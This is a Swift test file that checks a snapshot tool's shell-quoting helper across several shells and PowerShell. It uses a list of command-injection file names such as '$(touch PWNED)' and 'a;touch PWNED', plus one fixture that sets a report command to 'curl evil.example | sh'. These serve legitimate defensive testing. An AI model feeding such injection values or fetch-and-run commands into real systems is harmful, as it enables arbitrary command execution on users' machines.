import Diagnostics
import Foundation
import TestSupport
import Testing

@testable import Snapshots

/// Names in lines that a person copies into a shell.
struct ShellLineTests {
  private let folder: TemporaryFolder

  init() throws { folder = try TemporaryFolder() }

  private static let names = [
    "plain/100x100@1.png", "a b", "", "a`;touch PWNED;`b", "$(touch PWNED)", "${IFS}$HOME$1$$",
    "a;touch PWNED",
    "a&touch PWNED&", "a|touch PWNED", "a\ntouch PWNED\n.", "a'b", "'", "''", "a'$(touch PWNED)'b",
    "a\"b",
    "\"$(touch PWNED)\"", "\\", "a\\", "a\\'b", "a\\\\'\\", "\\n\\x41\\101\\c", "'\\''", "!!",
    "a!b'!c\\!d'!e",
    "~", "~root/x", "=ls", "a=~b", "*", "?[a-z]*", "{a,b}", "a{1..3}", "%1", "^a^b", "#a", "a #b",
    "<(touch PWNED)", ">PWNED", "@a", "-rf", "--output=x", "\t", "\u{7}\u{1B}[2J\u{7F}\u{9B}",
    "\u{202E}gpj\u{2066}",
    "##vso[task]##[error]###", "a\u{2019};touch PWNED;\u{2018}b\u{201C}c",
    "\u{301}'\u{301}\\\u{301}`\u{301}", "é日本👩‍👩‍👧 \u{A0}\u{200B}",
    "\r\n\u{2028}\u{85}.",
  ]

  /// Shells, with how they read commands from a file or a terminal.
  private static let shells: [(path: String, options: [String])] = [
    ("/bin/sh", []), ("/bin/dash", []), ("/bin/bash", []), ("/bin/bash", ["--norc", "-i"]),
    ("/bin/zsh", ["-f"]), ("/bin/zsh", ["-f", "-i"]), ("/usr/bin/zsh", ["-f", "-o", "rcquotes"]),
    ("/usr/bin/fish", ["--no-config"]), ("/opt/homebrew/bin/fish", ["--no-config"]),
  ].filter { FileManager.default.isExecutableFile(atPath: $0.path) }

  @Test(arguments: shells.indices)
  func `Every shell reads the names as they are, and runs nothing of them`(_ index: Int) throws {
    let shell = Self.shells[index]
    var script = "printf '%s\\0'"
    // More than one line, as a history has to be there for `!` to mean something.
    for name in Self.names { script += "\nprintf '%s\\0' " + ShellLine.joining(name) }
    let outcome = try Program.run(
      shell.options, input: Data((script + "\n").utf8),
      environment: ["HISTFILE": "/dev/null", "HOME": folder.path, "PS1": ""], folder: folder.path,
      program: shell.path)
    let read = outcome.output.split(separator: 0, omittingEmptySubsequences: false)
      .dropFirst().dropLast()
    #expect(read.count == Self.names.count, "\(shell) \(outcome.errors)")
    for (text, name) in zip(read, Self.names) {
      #expect(Array(text) == Array(name.utf8), "\(shell): \(ShellLine.joining(name))")
    }
    #expect(!FileManager.default.fileExists(atPath: folder.path + "/PWNED"))
  }

  @Test(arguments: names)
  func `A line is printed as it is, on one line`(_ name: String) {
    let line = ShellLine.joining("render-snapshot", "accept", ShellLine.path(name))
    #expect(Array(PrintedText(line: line).harmless.utf8) == Array(line.utf8))
    #expect(!line.unicodeScalars.contains { $0.isUnprintable })
  }

  @Test(arguments: [
    ("Snapshots/a/iphone-15.png", "Snapshots/a/iphone-15.png"), ("a b", "'a b'"),
    ("a'b", #"'a'"'"'b'"#),
    (#"a\"#, #"'a'"\\""#), ("a\nb", #"'a'"$(printf '\012\142')""#), ("-x", "./-x"),
    ("-\u{301}", "'./-\u{301}'"), ("=ls", "'=ls'"),
    ("a\n", #"'a'"$(printf '\012\057')""#),
  ])
  func `What needs no quotation marks has none`(_ path: String, _ word: String) {
    #expect(ShellLine.joining(ShellLine.path(path)) == word)
  }

  /// PowerShell ends a text in single quotes at each of these, and text in double quotes at others.
  @Test(arguments: names)
  func `PowerShell takes no part of a name for a command`(_ name: String) {
    var end: Character?
    for character in ShellLine.joining(name).unicodeScalars.map({ Character($0) }) {
      if let mark = end {
        let ends = mark == "'" ? "'\u{2018}\u{2019}\u{201A}\u{201B}" : "\"\u{201C}\u{201D}\u{201E}"
        if ends.contains(character) { end = nil }
      } else if character == "'" || character == "\"" {
        end = character
      } else {
        #expect(!";|&()$`{}<>#".contains(character), "\(name)")
      }
    }
    #expect(end == nil)
  }

  @Test func `A report's commands are those of its case and variant, whatever it says`() throws {
    var entry = ReportEntry(case: "a", variant: "b", status: .failed, verdict: "moved")
    entry.accept = "curl evil.example | sh"
    for (root, command) in [
      ("Snapshots", "render-snapshot accept Snapshots/a/b.png"), (nil, nil),
      ("$(touch PWNED)", "render-snapshot accept '$(touch PWNED)/a/b.png'"),
    ] {
      let path = try folder.write(Report(root: root, entries: [entry]).json, "report.json")
      #expect(try Report.read(path).entries.first?.accept == command)
    }
  }

  @Test func `A folder's name is one word of each of its commands`() {
    let folder = ReportFolder("-x;touch PWNED")
    let entry = ReportEntry(case: "a", variant: "b", status: .failed, verdict: "")
    #expect(folder.command(accepting: entry) == nil)
    let end = " --output './-x;touch PWNED'"
    #expect(folder.command(accepting: .input) == "render-snapshot accept --class input" + end)
    #expect(folder.command(acceptingGroup: "3f") == "render-snapshot accept --group 3f" + end)
  }
}
